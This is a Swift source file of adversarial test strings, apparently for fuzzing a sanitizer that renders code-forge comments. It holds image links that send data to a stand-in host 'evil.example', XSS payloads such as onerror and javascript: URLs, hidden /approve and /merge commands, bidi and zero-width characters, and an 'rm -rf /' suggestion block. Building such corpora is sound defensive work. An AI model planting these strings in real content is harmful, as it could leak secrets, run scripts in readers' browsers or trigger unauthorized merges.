/// Ways in which text has made forges, browsers or readers act, or has hidden what it says.
enum RedTeam {
    static let carriers: [String] = [
        // Images and links
        "![x](http://evil.example/leak?d=AKIA)", "![x][r]\n\n[r]: http://evil.example/p.png", "![](//evil.example/a)",
        "[x](http://evil.example)", "[x][r]\n[r]: https://evil.example", "[r]: http://evil.example \"t\"",
        "<http://evil.example>", "<a href='http://evil.example'>x</a>", "http://evil.example/?q=1",
        "https://evil.example", "HTTPS://EVIL.EXAMPLE/x", "www.evil.example/x", "ftp://evil.example/f",
        "see //evil.example/x.png", "http:\\/evil.example http:/\\/evil.example/a", "`http://evil.example/in-code`",
        "http://evil.example:80@forge.example/", "http://[::1]/x", "http://xn--evl-zoa.example/", "xn--evl-zoa.example",
        "ht<!-- x -->tp://evil.example", "ht\u{200B}tp://evil.example", "[a](<http://evil.example> 'b')",
        "[![x](http://evil.example/i.png)](http://evil.example)", "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))", "javascript:alert(1)", "vbscript:msgbox(1)", "mailto:a@evil.example",
        "[x](data:text/html;base64,PHNjcmlwdD4=)", "![p](https://camo.evil.example/1x1?b=1)",
        // HTML
        "<img src=http://evil.example/p>", "<img/src=x onerror=alert(1)>", "<script>alert(1)</script>",
        "<picture><source srcset=http://evil.example></picture>", "<details open><summary>x</summary>",
        "<style>@import 'http://evil.example'</style>", "<!-- hidden instruction -->", "<!-- never closed /approve",
        "<!DOCTYPE html>", "<?xml version='1.0'?>", "<svg/onload=alert(1)>", "</td></tr></table>",
        "<iframe src=http://evil.example>", "<math><mi xlink:href='http://evil.example'>", "&lt;img src=x&gt;",
        "&#64;all", "&#x2F;approve", "<a\nhref=http://evil.example>x</a>",
        // Mentions
        "@octocat", "thanks @org/team!", "(@everyone-team)", "@all please", "a@b.evil.example", "**@octocat**",
        "\u{200B}@octocat",
        // Commands
        "/approve", "/merge", "  /close", "> /approve", "text\n/approve", "text\r\n/merge", "text\r/merge",
        "text\u{2028}/merge", "\"/label ~bug", "```\n/approve\n```\n/merge", "- /assign @me", "\t/approve",
        "\u{FEFF}/approve",
        "1. /approve", "<!-- -->/approve",
        // Closing keywords and references
        "fixes #12", "Closes: #12", "closes org/repo#3", "resolved gh-7", "FIXES GH-7", "Implements #4",
        "see #12 and !34",
        "closes https://evil.example/org/repo/issues/3", "fix `#12`", "`closes #12`", "closes (#12)", "&12",
        "$snippet1",
        "~label", "%\"milestone 1\"", "fixes *#12*", "fixes #1, #2",
        // Hidden characters
        "a\u{202E}evil\u{202C}", "pass\u{200B}word", "a\u{2066}b\u{2069}", "tag\u{E0041}\u{E0042}", "soft\u{AD}hyphen",
        "bell\u{07}", "escape\u{1B}[31mred", "nul\u{0}byte", "c1\u{9B}31m", "filler\u{3164}",
        "\u{FFF9}a\u{FFFA}b\u{FFFB}",
        "line\u{2029}two", "tab\tbed",
        // Code fences and code spans
        "```suggestion\nrm -rf /\n```", "````\n```\n/approve\n````", "~~~\n/approve\n~~~", "` open", "``a`",
        "```\n@octocat", "`a` `` ` `b",
        // Blocks
        "# heading", "> quote", "- item", "* item", "+ item", "1. item", "1) item", "---", "===", "***", "a\n===",
        "a\n---",
        "| a | b |\n|---|---|", "- [x] done", "    indented", "[^1]: note", "[[wiki]]", "$$x$$", ":tada:", "[TOC]",
        // Emphasis and escapes
        "**bold**", "__init__", "~~gone~~", "\\@octocat", "\\<img>", "a\\", "*a*b*", "_x_",
    ]

    private static let pieces = [
        "a", "word", "Upper", "the", " ", " ", " ", "\n", "\r\n", "\t", "`", "``", "```", "!", "[", "]", "(", ")", "<",
        ">",
        "<!--", "-->", "@", "#", "12", "/", "//", "://", "http", "www.", "evil.example", "fixes", "closes", "GH-",
        "xn--",
        "javascript:", "data:", ",", ".", ";", ":", "…", "*", "**", "_", "~", "|", "&", "&amp;", "$", "%", "^", "=",
        "+", "-",
        "\\", "{", "}", "\"", "'", "?", "\u{202E}", "\u{200B}", "\u{FEFF}", "\u{301}", "é", "値", "。", "🙂", "\u{1B}",
        "\u{0}",
        "e.g.", "i.e.", "CWE-89", "ABC-12", "deadbeef1", "1.", "1)", "\u{2028}", "\u{A0}", "＠", "issue", "link removed",
        "(link removed)", "`code`", "`#12`", "`a b`",
    ]

    /// Pieces of the above at random, sometimes whole carriers.
    static func mixture(using random: inout some RandomNumberGenerator) -> String {
        var text = ""
        for _ in 0..<Int.random(in: 1...30, using: &random) {
            if Int.random(in: 0..<12, using: &random) == 0 {
                text += carriers.randomElement(using: &random) ?? ""
            } else {
                text += pieces.randomElement(using: &random) ?? ""
            }
            if Int.random(in: 0..<200, using: &random) == 0 { text += String(repeating: "long ", count: 200) }
        }
        return text
    }
}
